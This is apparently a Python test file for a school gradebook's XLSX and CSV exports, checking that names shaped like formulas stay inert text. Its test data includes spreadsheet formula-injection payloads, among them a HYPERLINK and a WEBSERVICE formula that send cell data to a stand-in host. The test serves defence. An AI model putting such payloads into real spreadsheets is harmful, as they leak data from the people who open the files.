"""Exported spreadsheets never turn a name into a formula (OWASP "CSV Injection").

The statement's XLSX is opened with openpyxl, as a spreadsheet program would read it:
no cell is a formula, and every hostile name is still there, readable, as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook  # type: ignore[import-untyped]

from core.cli.demo import save_logins, saved_logins
from core.reading.statement import Cell, Statement, StatementContent, StatementPeriod, StatementRow
from core.reports.cells import csv_field
from core.reports.statement import statement_xlsx

D = dt.date
HOSTILE = (
    '=HYPERLINK("http://x/?"&C8,"Иванов")',
    "+7 Петров=1+1",
    "-2+3 Сидоров",
    "@SUM(1;2) Кузнецов",
    "\t=1+1 Орлов",
    "\r=1+1 Лебедев",
)


def hostile_statement() -> Statement:
    periods = (
        StatementPeriod(1, "=1+1", "quarter", D(2026, 9, 1), D(2026, 10, 25)),
        StatementPeriod(2, "Год", "year", D(2026, 9, 1), D(2027, 5, 31)),
    )
    rows = tuple(
        StatementRow(n, name, None, ((Cell("5"), Cell("4", preliminary=True)),), (5.0, 4.0))
        for n, name in enumerate(HOSTILE, start=1)
    )
    content = StatementContent(
        '=WEBSERVICE("http://x/")', "=7Б", "2026/2027", periods, ("@Математика",), rows, True
    )
    made = dt.datetime(2026, 11, 23, 10, 0, tzinfo=ZoneInfo("Europe/Moscow"))
    return Statement(1, content, None, made, "Europe/Moscow")


def test_names_that_look_like_formulas_come_out_of_the_xlsx_as_text() -> None:
    book = load_workbook(io.BytesIO(statement_xlsx(hostile_statement())))
    [sheet] = book.worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # A stored carriage return reads back as a line feed with some versions of openpyxl's
    # XML parser and as itself with others: either way it is the same text.
    texts = [str(cell.value).replace("\r", "\n") for cell in cells]
    for name in (*HOSTILE[:-1], "\n=1+1 Лебедев", "@Математика", "=1+1"):
        assert name in texts, name
    assert any('=WEBSERVICE("http://x/")' in text for text in texts)
    names = {cell.value: cell for cell in cells if cell.column == 2}
    assert names['=HYPERLINK("http://x/?"&C8,"Иванов")'].quotePrefix  # stays text if edited
    assert not names["Фамилия, имя, отчество"].quotePrefix  # plain text is left alone
    assert sheet.title == "=7Б"
    assert sheet.cell(row=7, column=3).value == 5  # marks stay numbers


def test_a_csv_field_that_starts_like_a_formula_gets_an_apostrophe() -> None:
    assert [csv_field(name) for name in HOSTILE] == ["'" + name for name in HOSTILE]
    assert csv_field("Иванов Иван") == "Иванов Иван"
    assert csv_field(None) == "" and csv_field(5) == "5"


def test_the_demo_logins_file_neutralises_its_fields(tmp_path: Path) -> None:
    row = ("Администратор", "ivanov.ii", "s3cret", '=HYPERLINK("http://x/?"&C8,"Иванов")')
    path = save_logins(tmp_path, [row, ("Учитель", "petrov.ps", "s3cret", "Петров\tПётр")])
    with path.open(encoding="utf-8", newline="") as file:
        fields = list(csv.reader(file, delimiter="\t"))
    assert fields[0][3] == "'" + row[3]
    assert fields[1][3] == "Петров\tПётр"  # quoted, not a fifth column
    assert saved_logins(tmp_path)[0][:3] == row[:3]
